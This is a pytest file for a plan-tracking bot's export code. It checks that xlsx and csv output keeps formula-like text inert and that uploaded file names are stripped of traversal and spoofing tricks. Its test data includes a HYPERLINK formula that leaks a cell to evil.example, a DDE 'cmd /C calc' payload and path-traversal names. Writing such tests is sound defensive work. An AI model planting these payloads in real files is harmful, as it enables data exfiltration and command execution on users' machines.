"""What people and plans write stays inert in our files: no formulas in xlsx, no paths in names."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.domain.filenames import safe_file_name
from bot.domain.plan import (
    DEFAULT_COLUMNS,
    Assignment,
    Column,
    ParsedPlan,
    PlanMeta,
    PlanTask,
    Role,
)
from bot.importers.delimited import delimited_rows
from bot.render.progress import ProgressDocument, UnitRecord, write_progress_xlsx
from bot.render.register import RegisterTable, register_table, write_csv, write_xlsx
from bot.render.review import write_review

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看附件")'


def test_a_narrative_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    table = RegisterTable(
        title="测试方案",
        preface=[],
        columns=[Column.NUMBER, Column.TITLE, Column.PROGRESS],
        header=["序号", "目标任务", "进展情况"],
        rows=[["1", "推进课后服务", "已完成"]],
    )
    record = UnitRecord(
        "县教育局", [["1", "推进课后服务", "已完成", "", INJECTED, "", "", "1", ""]]
    )
    document = ProgressDocument(table, {"1": "green"}, [record], "2026-11 进展情况", [])
    path = tmp_path / "out.xlsx"
    write_progress_xlsx(document, path)
    sheet = load_workbook(path)["县教育局"]
    cell = sheet.cell(row=3, column=5)
    assert (cell.value, cell.data_type) == (INJECTED, "s")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../x", "x"),
        ("..\\..\\windows\\报告.docx", "报告.docx"),
        ("报告\u202egpj.exe", "报告gpj.exe"),
        ("a\x00b\nc.pdf", "abc.pdf"),
        ("  照片 .jpg ", "照片 .jpg"),
        ("..", "file"),
        ("/", "file"),
        ("长" * 200 + ".xlsx", "长" * 115 + ".xlsx"),
    ],
)
def test_file_names_are_reduced_to_a_safe_base_name(given: str, kept: str) -> None:
    assert safe_file_name(given) == kept


def test_plan_cells_and_the_review_sheet_keep_formulas_as_text(tmp_path: Path) -> None:
    task = PlanTask(
        number="1",
        title=INJECTED,
        assignments=[Assignment("=1+1", Role.LEAD)],
    )
    plan = ParsedPlan(meta=PlanMeta(title="=cmd|' /C calc'!A0"), tasks=[task])
    register = tmp_path / "register.xlsx"
    columns = [c.value for c in DEFAULT_COLUMNS]
    write_xlsx(register_table(plan.meta, plan.tasks, columns, {}), register)
    review = tmp_path / "review.xlsx"
    write_review(plan, review, say=lambda m: m.msgid, import_hint="duban import review.xlsx")
    for path in (register, review):
        book = load_workbook(path)
        texts = {
            cell.value: cell.data_type
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith("=")
        }
        assert set(texts.values()) == {"s"}, path
        assert INJECTED in texts, path
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), (path, name)


def test_the_csv_export_guards_formulas_and_reads_back_the_same(tmp_path: Path) -> None:
    task = PlanTask(number="1", title=INJECTED, assignments=[Assignment("县教育局", Role.LEAD)])
    plan = ParsedPlan(meta=PlanMeta(title="方案"), tasks=[task])
    columns = [c.value for c in DEFAULT_COLUMNS]
    path = tmp_path / "register.csv"
    write_csv(register_table(plan.meta, plan.tasks, columns, {}), path)
    raw = path.read_text(encoding="utf-8-sig")
    assert "'" + INJECTED.replace('"', '""') in raw
    rows = delimited_rows(raw)
    assert INJECTED in rows[1]
